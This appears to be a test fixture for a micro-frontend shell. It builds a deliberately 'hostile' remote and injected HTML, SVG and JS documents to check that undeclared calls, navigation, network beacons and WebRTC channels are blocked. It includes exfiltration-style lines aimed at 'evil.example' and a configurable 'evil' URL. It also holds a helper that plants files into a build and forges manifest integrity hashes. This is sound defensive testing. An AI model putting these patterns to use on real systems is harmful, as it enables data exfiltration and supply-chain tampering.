import { createHash } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { RemoteManifest } from '@counsel/contracts';
import { packageOf } from '../support/copies.ts';

const sources = ['trick', 'around', 'network', 'port', 'tricks'].map((name) => {
  const path = `hostile/${name}.ts`;
  return [`src/${path}`, readFileSync(new URL(path, import.meta.url), 'utf8')];
});

/** What it declares. */
export const maps = 'https://maps.example';

/** A remote that tries, in its frame, what its declaration does not name. */
export const hostileRemote: Record<string, string> = {
  ...Object.fromEntries(sources),
  'package.json': packageOf('@counsel/mfe-hostile'),
  'remote.config.ts': `export default {
  name: 'hostile',
  routes: [{ path: '/hostile', page: 'hostile', title: 'Hostile', access: 'anyone' }],
  navigation: [],
  tour: [],
  roles: ['user'],
  calls: ['listCategories', 'acceptTerms'],
  hosts: ['${maps}'],
};
`,
  'src/remote.ts': `import { defineRemote } from '@counsel/shell-sdk';
export default defineRemote({
  contract: '^1.0.0',
  pages: { hostile: () => import('./hostile/Page.tsx') },
});
`,
  'src/hostile/Page.tsx': `import { Button, Dialog, Heading, Text } from '@counsel/design-system';
import { api, useSession } from '@counsel/shell-sdk';
import { useState } from 'react';
import { offer } from './tricks.ts';

offer();

export default function Page() {
  const { user, roles } = useSession();
  const categories = api.useListCategoriesQuery();
  const [submit] = api.useSubmitQuestionMutation();
  const [logout] = api.useLogoutMutation();
  const [accept] = api.useAcceptTermsMutation();
  const [done, setDone] = useState<Record<string, string> | null>(null);
  const act = async () => {
    const body = { categoryId: 1, title: 'Asked by nobody at all', content: 'x'.repeat(60), isAnonymous: true };
    const asked = await submit({ body });
    const out = await logout();
    setDone({ submit: String(asked.error?.message), logout: String(out.error?.message) });
  };
  return (
    <>
      <Heading level={1}>Hostile</Heading>
      <Text>{categories.data?.map(({ name }) => name).join(', ')}</Text>
      <output aria-label="Reader">{JSON.stringify({ user, roles })}</output>
      <Button onClick={() => void act()}>Attack</Button>
      <Dialog title="Sure?" trigger={<Button>Ask</Button>} />
      <Button onClick={() => void accept()}>Ask for More</Button>
      <Button onClick={() => location.assign('/settings')}>Show the Portal</Button>
      <Button onClick={() => location.assign('https://evil.example/?stolen')}>Leave</Button>
      <output aria-label="Done">{done && JSON.stringify(done)}</output>
    </>
  );
}
`,
};

/** A document among its files, and what that would run: in a frame, a tab or as a worker. */
const documents: Record<string, string> = {
  'own.html': '<!doctype html><title>own</title><script src="own.js"></script>',
  'own.svg':
    '<svg xmlns="http://www.w3.org/2000/svg"><script href="own.js"></script><title>own</title></svg>',
  'own.js': `const { evil, stun } = document.currentScript?.dataset ?? {};
document.title = 'mine';
parent.postMessage({ kind: 'leave', to: '/settings' }, '*');
top.postMessage({ kind: 'leave', to: '/settings' }, '*');
if (evil) {
  new Image().src = evil;
  fetch(evil, { mode: 'no-cors' });
}
if (stun) {
  const connection = new RTCPeerConnection({ iceServers: [{ urls: stun }] });
  connection.createDataChannel('stolen');
  connection.createOffer().then((offer) => connection.setLocalDescription(offer));
}
`,
};

/** Puts those into the build in a folder, as if its team's own tools had. */
export function addDocuments(folder: string): void {
  const path = join(folder, 'dist/remote.json');
  const manifest: RemoteManifest = JSON.parse(readFileSync(path, 'utf8'));
  for (const [name, text] of Object.entries(documents)) {
    writeFileSync(join(folder, 'dist', name), text);
    const hash = createHash('sha384').update(text).digest('base64');
    manifest.files.push({ path: name, integrity: `sha384-${hash}` });
  }
  writeFileSync(path, JSON.stringify(manifest));
}
